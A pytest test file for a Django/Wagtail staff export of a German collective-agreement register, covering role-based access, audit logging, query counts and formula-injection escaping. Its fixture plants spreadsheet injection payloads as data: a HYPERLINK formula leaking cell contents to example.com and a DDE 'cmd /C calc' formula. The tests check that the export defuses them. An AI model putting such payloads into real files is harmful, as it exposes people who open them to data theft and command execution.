"""The register export for staff: CSV/XLSX from the agreements listing, formula-safe, audited,
constant queries; partners and anonymous users get nothing."""

import csv
import datetime
import io

import pytest
import time_machine
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.exceptions import ValidationError
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from lotse.core import roles
from lotse.core.models import Region
from lotse.tariffs import services
from lotse.tariffs.exports import EXPORT_COLUMNS, agreement_status
from lotse.tariffs.models import CollectiveAgreement
from tests.tariffs.factories import register_agreement

pytestmark = pytest.mark.django_db

D = datetime.date
LISTING = "/admin/snippets/tariffs/collectiveagreement/"
CSV_URL = f"{LISTING}?export=csv"
XLSX_URL = f"{LISTING}?export=xlsx"
HEADINGS = [str(label) for _key, label in EXPORT_COLUMNS]


def rows_of(response) -> list[dict[str, str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))


def exports_logged() -> int:
    return ModelLogEntry.objects.filter(action="lotse.export").count()


@pytest.fixture
def administration_client():
    user = get_user_model().objects.create_user("verwaltung", password="x")
    user.groups.add(Group.objects.get(name=roles.ADMINISTRATION))
    client = Client()
    client.force_login(user)
    return client


# --- access -------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL, f"{LISTING}results/?export=csv"])
def test_anonymous_is_sent_to_the_login(client, tariff_register, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")
    assert exports_logged() == 0


@pytest.mark.parametrize("username", ["partner", "redaktion", "lotsendienst", "veranstaltung"])
@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL, f"{LISTING}results/?export=xlsx"])
def test_partners_and_other_staff_roles_get_403(login, staff_users, tariff_register, username, url):
    response = login(username).get(url)
    assert response.status_code == 403
    assert "SN-TEST-0900" not in response.content.decode("utf-8", "replace")
    assert exports_logged() == 0


@pytest.mark.parametrize("username", ["tarifregister", "admin"])
def test_register_roles_download_csv(login, staff_users, tariff_register, username):
    response = login(username).get(CSV_URL)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="tarifregister-')
    assert response["Cache-Control"] == "no-store"
    rows = rows_of(response)
    assert list(rows[0]) == HEADINGS
    assert len(rows) == CollectiveAgreement.objects.count()


def test_administration_role_without_superuser_downloads_xlsx(
    administration_client, tariff_register
):
    response = administration_client.get(XLSX_URL)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [cell.value for cell in sheet[1]] == HEADINGS
    assert sheet.max_row == CollectiveAgreement.objects.count() + 1


def test_listing_offers_the_downloads(login, staff_users, tariff_register):
    html = login("tarifregister").get(LISTING).content.decode()
    assert "?export=csv" in html and "?export=xlsx" in html
    assert "CSV herunterladen" in html


# --- content ------------------------------------------------------------------------------------


@time_machine.travel("2026-03-02 10:00 +0100", tick=False)
def test_csv_holds_the_metadata_including_company_and_confidential_entries(
    login, staff_users, register
):
    rows = {row["Registernummer"]: row for row in rows_of(login("tarifregister").get(CSV_URL))}
    company = rows["SN-TEST-0900"]  # the confidential company agreement
    assert company["Ebene"] == "Firmen-/Haustarifvertrag"
    assert company["vertraulich (§ 16 TVGDV)"] == "ja"
    electrical = rows["SN-DEMO-0001"]
    assert electrical["Gewerkschaften"] == "IG Metall"
    assert electrical["Räumlicher Geltungsbereich"] == "bundesweit"
    assert electrical["WZ 2008"] == "43.21"
    assert electrical["in Kraft ab"] == "2025-01-01"
    assert electrical["Status am Tag des Exports"] == "in Kraft"
    assert electrical["AVE: Stand"] == "für allgemeinverbindlich erklärt"
    assert electrical["AVE: allgemeinverbindlich bis"] == "2028-12-31"
    assert electrical["vertraulich (§ 16 TVGDV)"] == "nein"
    hairdressers = rows["SN-DEMO-0003"]
    assert hairdressers["AVE: Stand"] == "beendet"
    assert "gültig 01.10.2004 – 30.11.2014" in hairdressers["AVE: alle Verfahren"]
    hotel = rows["SN-TEST-0102"]  # expired 2025-12-31, with after-effect
    assert hotel["Status am Tag des Exports"] == "abgelaufen, in Nachwirkung"
    assert hotel["Nachwirkung bis zur Ablösung"] == "ja"


def test_listing_filters_apply_to_the_export(login, staff_users, tariff_register):
    rows = rows_of(login("tarifregister").get(f"{LISTING}?level=company&export=csv"))
    assert [row["Registernummer"] for row in rows] == list(
        CollectiveAgreement.objects.filter(level="company")
        .order_by("register_number")
        .values_list("register_number", flat=True)
    )
    assert rows and all(row["Ebene"] == "Firmen-/Haustarifvertrag" for row in rows)


def _formula_agreement():
    party = services.party_create(user=None, name="@SUM(1+1)*cmd|' /C calc'!A0", kind="union")
    return services.agreement_register(
        user=None,
        register_number="X-1",
        title='=HYPERLINK("https://example.com/?leak="&A1;"Klick")',
        kind="pay",
        level="sector",
        territory="regions",
        regions=[Region.objects.get(code="14713")],
        sector_text="+49 351 123",
        personal_scope="-Arbeitnehmer",
        concluded_on=D(2025, 1, 1),
        valid_from=D(2025, 1, 1),
        parties=[party],
        codes=["25.62"],
    )


def test_no_formula_injection_in_csv(login, staff_users):
    _formula_agreement()
    (row,) = rows_of(login("tarifregister").get(CSV_URL))
    assert row["Titel"] == '\'=HYPERLINK("https://example.com/?leak="&A1;"Klick")'
    assert row["Gewerkschaften"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["Fachlicher Geltungsbereich"] == "'+49 351 123"
    assert row["Persönlicher Geltungsbereich"] == "'-Arbeitnehmer"
    assert row["Regionen in Sachsen"] == "Leipzig"


def test_no_formula_injection_in_xlsx_and_dates_are_date_cells(login, staff_users):
    _formula_agreement()
    response = login("tarifregister").get(XLSX_URL)
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = dict(zip(HEADINGS, sheet[2], strict=True))
    assert values["Titel"].data_type == "s"
    assert values["Titel"].value.startswith("'=HYPERLINK")
    assert values["Gewerkschaften"].value.startswith("'@SUM")
    assert values["in Kraft ab"].value.date() == D(2025, 1, 1)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


# --- audit --------------------------------------------------------------------------------------


def test_every_download_is_audited(login, staff_users, tariff_register):
    client = login("tarifregister")
    user = get_user_model().objects.get(username="tarifregister")
    total = CollectiveAgreement.objects.count()
    confidential = CollectiveAgreement.objects.filter(confidential=True).count()
    client.get(CSV_URL)
    client.get(f"{LISTING}?level=company&export=xlsx")
    entries = list(ModelLogEntry.objects.filter(action="lotse.export").order_by("pk"))
    assert [entry.user for entry in entries] == [user, user]
    assert entries[0].data["note"] == (
        f"CSV: {total} Tarifverträge, davon {confidential} vertraulich"
    )
    company = CollectiveAgreement.objects.filter(level="company").count()
    assert entries[1].data["note"].startswith(f"XLSX: {company} Tarifverträge")
    assert entries[1].data["note"].endswith("; Auswahl: level=company")
    assert not entries[0].content_changed
    # Viewing the listing is no download and is not logged.
    client.get(LISTING)
    assert exports_logged() == 2


def test_service_refuses_an_unknown_format_and_logs_nothing():
    with pytest.raises(ValidationError, match="Unbekanntes Format"):
        services.agreements_export(
            user=None, agreements=CollectiveAgreement.objects.all(), fmt="pdf"
        )
    assert exports_logged() == 0


# --- queries ------------------------------------------------------------------------------------


def _add_agreements(count: int, start: int) -> None:
    """Agreements with everything the export reads: parties, regions, codes, AVE, successor."""
    region = Region.objects.get(code="14713")
    for number in range(start, start + count):
        union = services.party_create(user=None, name=f"Gewerkschaft {number}", kind="union")
        agreement = register_agreement(
            f"Q-{number:04d}",
            title=f"Tarifvertrag {number}",
            territory="regions",
            regions=[region],
            valid_from=D(2020, 1, 1),
            valid_to=D(2021, 12, 31),
            parties=[union],
            codes=["25.62", "43.21"],
        )
        register_agreement(
            f"Q-{number:04d}-N",
            title=f"Nachfolger {number}",
            valid_from=D(2022, 1, 1),
            predecessor=agreement,
            amends=agreement,
        )
        services.ave_apply(user=None, agreement=agreement, applied_on=D(2020, 6, 1))


def _export_queries(client) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(CSV_URL)
    assert response.status_code == 200
    return len(queries)


def test_export_queries_stay_constant_as_the_register_grows(
    login, staff_users, tariff_register, django_assert_max_num_queries
):
    client = login("tarifregister")
    _add_agreements(2, start=1)
    # The first request also fills the caches kept per user and per version (permissions,
    # roles, the back-office menu): session, user, permissions, profile, roles; agreements +
    # 4 prefetches; the audit entry.
    cold = _export_queries(client)
    assert cold <= 20
    small = _export_queries(client)
    _add_agreements(20, start=100)
    with django_assert_max_num_queries(cold):
        response = client.get(CSV_URL)
    assert len(rows_of(response)) == CollectiveAgreement.objects.count()
    assert _export_queries(client) == small


# --- status -------------------------------------------------------------------------------------


def test_status_on_a_date():
    old = register_agreement("S-1", title="Alt", valid_from=D(2020, 1, 1), valid_to=D(2022, 12, 31))
    register_agreement("S-2", title="Neu", valid_from=D(2024, 1, 1), predecessor=old)
    old = CollectiveAgreement.objects.select_related("successor").get(pk=old.pk)
    assert agreement_status(old, on=D(2019, 12, 31)) == "noch nicht in Kraft"
    assert agreement_status(old, on=D(2022, 12, 31)) == "in Kraft"
    assert agreement_status(old, on=D(2023, 6, 1)) == "abgelaufen, in Nachwirkung"
    assert agreement_status(old, on=D(2024, 1, 1)) == "abgelaufen, abgelöst durch S-2"
    old.after_effect = False
    old.successor = None
    assert agreement_status(old, on=D(2023, 6, 1)) == "abgelaufen"
